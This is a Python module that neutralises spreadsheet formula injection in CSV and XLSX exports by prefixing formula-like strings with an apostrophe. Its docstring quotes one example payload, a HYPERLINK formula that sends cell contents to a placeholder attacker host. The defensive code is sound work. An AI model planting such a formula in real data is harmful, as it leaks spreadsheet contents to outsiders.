"""Cells that a spreadsheet reads as text, never as a formula (OWASP's "CSV injection").

A department or category name imported as `=HYPERLINK("http://evil.example/?leak="&A2&B2;"Click")`
would become a live formula when an export is opened in Excel or LibreOffice, and could send
the sheet's other cells away. Every export (CSV and XLSX) writes its cells through `neutral`:
a string that begins with one of FORMULA_STARTS gets a leading apostrophe, which spreadsheets
show as text. Numbers, dates and empty cells stay what they are: a negative number is a
number. In XLSX every string is also typed as a string, so that no text is ever a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Font
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
QUOTE = "'"


def neutral(value: Any) -> Any:
    """`value` as a spreadsheet must read it: a string never begins a formula."""
    if isinstance(value, str) and _formula_like(value):
        return QUOTE + value
    return value


def restored(text: str) -> str:
    """What `neutral` added, taken off again: a file exported here and loaded back keeps its names."""
    if text.startswith(QUOTE) and _formula_like(text):
        return text[1:]
    return text


def _formula_like(text: str) -> bool:
    # Quotes already in front count too, so that `restored` undoes exactly what `neutral` did.
    return text.lstrip(QUOTE).startswith(FORMULA_STARTS)


class CsvWriter:
    """`csv.writer` whose every cell goes through `neutral`."""

    def __init__(self, stream: TextIO, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutral(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def xlsx_cell(sheet: WriteOnlyWorksheet, value: Any, number_format: str | None = None, font: Font | None = None) -> Any:
    """A value or cell for `sheet.append`: a string is typed as a string (never "f", a formula,
    nor "e", an error such as #N/A), a number or date gets its format; None stays empty."""
    value = neutral(value)
    if font is None:
        if isinstance(value, str) and value not in ERROR_CODES:
            # openpyxl types it "s" itself (only a leading "=" or an error code would change
            # that), and a plain value costs far less than a cell each in a 100,000-row list.
            return value
        if not isinstance(value, str) and (number_format is None or value is None):
            return value
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    if number_format and value is not None:
        cell.number_format = number_format
    if font is not None:
        cell.font = font
    return cell
